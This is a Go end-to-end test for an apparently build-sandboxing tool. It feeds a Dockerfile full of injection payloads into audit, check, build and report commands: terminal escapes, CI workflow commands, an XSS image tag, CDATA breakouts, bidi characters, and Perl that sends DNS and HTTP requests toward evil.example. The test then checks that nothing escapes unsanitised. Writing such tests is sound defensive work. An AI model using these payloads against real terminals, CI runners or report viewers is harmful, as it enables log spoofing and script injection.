package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
)

// hostileFile is a build that calls everything it can what would be more than
// text in a terminal, Markdown, HTML, XML, YAML or a workflow's log: commands,
// processes, DNS questions, hosts of requests.
const hostileFile = `FROM buildcage-demo:base AS a
SHELL ["/bin/bash", "-c"]
RUN <<'END'
# ESC[2J ESC]8;;https://evil.example BELclick ]]> <img src=x onerror=alert(1)> BIDI =1+1 "' - a: &b !!c
# ::error::pwned ##[error]x ##vso[x] | x | [l](https://evil.example) ${{ x }} {{.}} ** ? {a,b} ~.* </code>
cp /usr/bin/perl '/tmp/ESC[31m::error::<b>x]]>'
'/tmp/ESC[31m::error::<b>x]]>' - <<'PERL'
use Socket;
my @names = ("\e[2J", "\x{9b}1m", "a\0b", "\xe2\x80\xae", "<b>x", "::error::x", "]]>", "=1+1", "a: b", "\xff\xfe", "x" x 63, "*", "%0A::x");
socket(my $u, PF_INET, SOCK_DGRAM, 17); 
for (@names) {
	my $q = pack("n6", 7, 256, 1, 0, 0, 0) . chr(length $_) . $_ . "\x04evil\x07example\0" . pack("n2", 1, 1);
	send($u, $q, 0, sockaddr_in(53, inet_aton("192.0.2.53"))); recv($u, my $r, 512, 0);
}
for (@names, "z" x 5000) {
	socket(my $t, PF_INET, SOCK_STREAM, 6);
	connect($t, sockaddr_in(80, inet_aton("192.0.2.80"))) or next;
	syswrite($t, "GET /$_ HTTP/1.1\r\nHost: $_\r\nConnection: close\r\n\r\n");
	while (sysread($t, my $r, 4096)) {}
}
PERL
exec 3<>/dev/tcp/good.example.com/80 && printf 'GET /file HTTP/1.1\r\nHost: good.example.com\r\nConnection: close\r\n\r\n' >&3 && cat <&3 >/dev/null
END
`

// TestHostileNames: none of it gets out raw, by whatever command and in
// whatever format, and the policy and the lock that an audit makes of it hold.
func TestHostileNames(t *testing.T) {
	o := startOrigin(t)
	file := strings.NewReplacer("ESC", "\x1b", "BEL", "\x07", "BIDI", "\u202e\u2066").Replace(hostileFile)
	dir := project(t, map[string]string{"Dockerfile": file})
	said := map[string]string{}
	inRun := func(code int, args ...string) result {
		t.Helper()
		r := run(t, dir, args...).want(t, code)
		said[strings.Join(args, " ")] = r.stdout + ours(r.stderr)
		return r
	}
	audit := append([]string{"audit", "--no-cache", "--write", "buildcage.yaml", "--per-step", "--seen", "--lock", "--output", "type=cacheonly"}, o.args()...)
	for _, format := range []string{"markdown", "sarif", "junit", "html", "github", "json"} {
		audit = append(audit, "--report", format+"=report."+format)
	}
	// What is malformed is refused in an audit, too.
	first := inRun(3, append(audit, ".")...)
	if n := len(first.report.hosts("blocked")); n == 0 || len(first.report.DNSOnly) == 0 {
		t.Fatalf("nothing hostile arrived: %+v", first.report)
	}
	inRun(0, "check", "--accept", "every-name")
	inRun(0, "fmt", "--check")
	inRun(3, append([]string{"build", "--no-cache", "--locked", "--output", "type=cacheonly"}, append(o.args(), ".")...)...)
	if !strings.Contains(said["check --accept every-name"], "ok: ") {
		t.Errorf("the policy and the lock do not fit: %s", said["check --accept every-name"])
	}
	inRun(0, "report", "report.json")
	inRun(0, "diff", "report.json", "buildcage.lock", "--format", "markdown")
	inRun(0, "diff", "report.json", "report.json")
	inRun(0, "tighten", "report.json")
	inRun(3, "explain", "--step", first.report.Steps[0].Command, "--stage", "a", "evil.example.com:443")
	for _, name := range []string{"buildcage.yaml", "buildcage.lock", "report.json", "report.markdown", "report.sarif", "report.junit", "report.html", "report.github"} {
		text, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		said[name] = string(text)
	}
	for what, text := range said {
		for i, line := range strings.Split(text, "\n") {
			if bad := strings.IndexFunc(line, func(r rune) bool { return !unicode.IsPrint(r) && r != '\t' || r == unicode.ReplacementChar }); bad >= 0 {
				t.Errorf("%s:%d: %q", what, i+1, line)
			}
			if strings.HasPrefix(line, "::error::") || strings.HasPrefix(strings.TrimSpace(line), "##") && !strings.HasPrefix(line, "##") {
				t.Errorf("%s:%d is a command to a runner: %q", what, i+1, line)
			}
		}
	}
	for _, name := range []string{"report.html", "report.junit"} {
		if strings.Contains(said[name], "<img") || strings.Contains(said[name], "<b>") || strings.Contains(said[name], "]]>") {
			t.Errorf("%s has markup of the build", name)
		}
	}
}

// ours is what the program says itself: not the output of steps, which belongs
// to the Dockerfile and is shown as docker build shows it.
func ours(stderr string) string {
	var b strings.Builder
	for line := range strings.Lines(stderr) {
		if !strings.HasPrefix(line, "#") {
			b.WriteString(line)
		}
	}
	return b.String()
}
